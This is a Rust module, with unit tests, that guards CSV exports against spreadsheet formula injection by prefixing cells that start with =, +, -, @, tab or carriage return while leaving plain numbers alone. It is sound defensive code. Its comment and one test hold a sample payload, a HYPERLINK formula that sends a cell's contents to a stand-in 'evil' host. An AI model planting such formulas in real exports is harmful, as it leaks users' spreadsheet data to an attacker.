//! Cells of the CSV files dealersync writes, made safe to open in a spreadsheet.
//!
//! Excel, LibreOffice and Google Sheets read a cell starting with `=`, `+`, `-` or `@`
//! (and, after a tab or carriage return, the same) as a formula: a customer named
//! `=HYPERLINK("http://evil/?"&A1,"click")` would run in head office's spreadsheet.
//! Every CSV writer of the project passes its cells through [`neutralise`], which
//! prefixes such cells with `'` (OWASP's advice), so they show as the text that was
//! typed. Plain numbers, negative ones included, stay numbers.

use std::borrow::Cow;

/// The cell as a spreadsheet should show it: text that would be read as a formula gets
/// a leading `'`; everything else, negative numbers and the `-` placeholder included,
/// is unchanged.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let risky = matches!(
        cell.as_bytes().first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    );
    // A lone `-` is the "none" placeholder of the tables; it cannot start a formula.
    if risky && cell != "-" && !is_plain_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// `-12`, `-3.5`, `+7`, `-152,000.50`: a sign, digits (with thousands separators) and
/// at most one decimal point, nothing else.
fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    let mut parts = digits.splitn(2, '.');
    let int = parts.next().unwrap_or("");
    let frac = parts.next();
    !int.is_empty()
        && int.as_bytes()[0].is_ascii_digit()
        && int.bytes().all(|b| b.is_ascii_digit() || b == b',')
        && frac.is_none_or(|f| !f.is_empty() && f.bytes().all(|b| b.is_ascii_digit()))
}

#[cfg(test)]
mod tests {
    use super::neutralise;

    #[test]
    fn formula_starts_are_prefixed() {
        for cell in [
            "=HYPERLINK(\"http://evil/\",\"x\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "=",
            "-1e5",
            "-,1",
            "--1",
        ] {
            assert_eq!(neutralise(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn plain_text_and_numbers_are_unchanged() {
        for cell in [
            "王伟",
            "",
            "12",
            "-12",
            "-3.50",
            "-152,000.50",
            "+7",
            "0.5",
            "a=b",
            "pad-3",
            "2026-03-01",
            "-",
        ] {
            assert_eq!(neutralise(cell), cell, "{cell:?}");
        }
    }
}
